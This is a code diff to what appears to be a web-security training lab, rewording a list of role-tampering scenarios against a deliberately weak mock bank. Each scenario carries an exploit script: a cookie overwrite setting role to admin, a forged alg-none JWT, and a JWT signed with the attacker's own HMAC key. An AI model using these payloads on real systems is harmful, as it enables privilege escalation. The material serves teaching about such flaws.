@@ -20,8 +20,8 @@ export const tampering = [
   {
     ...common,
     id: 'tamper-plain',
-    title: 'role=user becomes role=admin',
-    story: 'The role is in a plain cookie. Mallory writes another into it.',
+    title: 'Change role=user to role=admin',
+    story: 'The role is in a plain cookie. Mallory writes another role into it.',
     weakness: { ...notWritten, role: 'plain' },
     exploit: `<script>
   document.cookie = '{{role}}=admin; Path=/; Max-Age=600';
@@ -33,7 +33,7 @@ export const tampering = [
     id: 'tamper-signed',
     title: 'A signed cookie without its signature',
     story:
-      'The role cookie is signed, but the bank reads it with cookieParser.signedCookie(), which gives back a value that has no signature at all. Mallory leaves the signature away.',
+      'The role cookie is signed, but the bank reads it with cookieParser.signedCookie(), which returns a value without a signature unchanged. Mallory leaves the signature out.',
     weakness: { ...notWritten, role: 'careless-signed' },
     exploit: `<script>
   document.cookie = '{{role}}=admin; Path=/; Max-Age=600';
@@ -44,7 +44,7 @@ export const tampering = [
     ...common,
     id: 'tamper-jwt-none',
     title: 'A JWT with alg none',
-    story: 'The role is in a JWT that the bank decodes without verifying it. Mallory writes one that is not signed.',
+    story: 'The role is in a JWT that the bank decodes without verifying it. Mallory writes an unsigned one.',
     weakness: { ...notWritten, role: 'unverified-jwt' },
     exploit: `<script>
   ${encode}
@@ -57,14 +57,14 @@ export const tampering = [
     ...common,
     id: 'tamper-jwt-key',
     title: 'A JWT signed with another key',
-    story: 'The same, but Mallory signs the token properly, with a key of her own.',
+    story: 'The same, but Mallory signs the token, with her own key.',
     weakness: { ...notWritten, role: 'unverified-jwt' },
     exploit: `<script type="module">
   ${encode}
   const text = part({ alg: 'HS256', typ: 'JWT' }) + '.' + part({ role: 'admin' });
-  const octets = (string) => new TextEncoder().encode(string);
-  const key = await crypto.subtle.importKey('raw', octets('mallory'), { name: 'HMAC', hash: 'SHA-256' }, false, ['sign']);
-  const signature = new Uint8Array(await crypto.subtle.sign('HMAC', key, octets(text)));
+  const bytes = (string) => new TextEncoder().encode(string);
+  const key = await crypto.subtle.importKey('raw', bytes('mallory'), { name: 'HMAC', hash: 'SHA-256' }, false, ['sign']);
+  const signature = new Uint8Array(await crypto.subtle.sign('HMAC', key, bytes(text)));
   const mark = btoa(String.fromCharCode(...signature)).replaceAll('=', '').replaceAll('+', '-').replaceAll('/', '_');
   document.cookie = '{{role}}=' + text + '.' + mark + '; Path=/; Max-Age=600';
   fetch('{{log}}', { method: 'POST', mode: 'no-cors', body: 'Written.' });
